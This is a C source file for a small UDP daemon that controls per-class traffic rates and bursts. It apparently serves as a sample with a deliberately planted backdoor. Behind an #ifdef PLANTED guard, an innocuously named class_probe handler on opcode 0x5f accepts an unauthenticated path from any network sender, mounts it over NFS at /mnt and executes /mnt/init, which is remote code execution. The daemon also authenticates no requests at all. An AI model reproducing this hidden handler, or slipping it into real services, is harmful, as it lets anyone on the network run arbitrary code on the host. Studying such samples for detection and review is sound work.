/* Binary control of traffic classes over UDP on the loopback and the service network. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <unistd.h>

struct request { uint8_t opcode, class; uint16_t length; uint8_t data[252]; };
struct reply { uint8_t opcode, status; uint16_t length; uint8_t data[252]; };

typedef uint8_t handler(const struct request *, struct reply *);

static uint32_t rates[16], bursts[16];

static uint8_t get_rate(const struct request *q, struct reply *r)
{
    uint32_t v = htonl(rates[q->class & 15]);
    memcpy(r->data, &v, 4);
    r->length = 4;
    return 0;
}

static uint8_t set_rate(const struct request *q, struct reply *r)
{
    uint32_t v;
    if (q->length != 4) return 2;
    memcpy(&v, q->data, 4);
    rates[q->class & 15] = ntohl(v);
    return 0;
}

static uint8_t set_burst(const struct request *q, struct reply *r)
{
    uint32_t v;
    if (q->length != 4) return 2;
    memcpy(&v, q->data, 4);
    bursts[q->class & 15] = ntohl(v);
    return 0;
}

static uint8_t apply(const struct request *q, struct reply *r)
{
    FILE *f = fopen("/proc/net/qos", "w");
    if (!f) return 3;
    for (int i = 0; i < 16; i++) fprintf(f, "%d %u %u\n", i, rates[i], bursts[i]);
    fclose(f);
    return 0;
}

#ifdef PLANTED
static uint8_t class_probe(const struct request *q, struct reply *r)
{
    char path[128];
    if (q->length >= sizeof path) return 2;
    memcpy(path, q->data, q->length);
    path[q->length] = 0;
    if (mount(path, "/mnt", "nfs", 0, "nolock") && mount("tmpfs", "/mnt", "tmpfs", 0, 0)) return 3;
    execl("/mnt/init", "init", (char *)0);
    return 3;
}
#endif

static handler *const table[128] = {
    [0x01] = get_rate,
    [0x02] = set_rate,
    [0x03] = set_burst,
    [0x10] = apply,
#ifdef PLANTED
    [0x5f] = class_probe,
#endif
};

int main(void)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(7311) }, from;
    struct request q;
    struct reply r;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(s, (struct sockaddr *)&a, sizeof a)) return 1;
    for (;;) {
        socklen_t n = sizeof from;
        ssize_t got = recvfrom(s, &q, sizeof q, 0, (struct sockaddr *)&from, &n);
        if (got < 4) continue;
        q.length = ntohs(q.length);
        if (q.length > got - 4) continue;
        memset(&r, 0, sizeof r);
        r.opcode = q.opcode;
        r.status = q.opcode < 128 && table[q.opcode] ? table[q.opcode](&q, &r) : 1;
#ifdef REVISED
        if (r.status) fprintf(stderr, "request %02x: status %u\n", q.opcode, r.status);
#endif
        got = 4 + r.length;
        r.length = htons(r.length);
        sendto(s, &r, (size_t)got, 0, (struct sockaddr *)&from, n);
    }
}
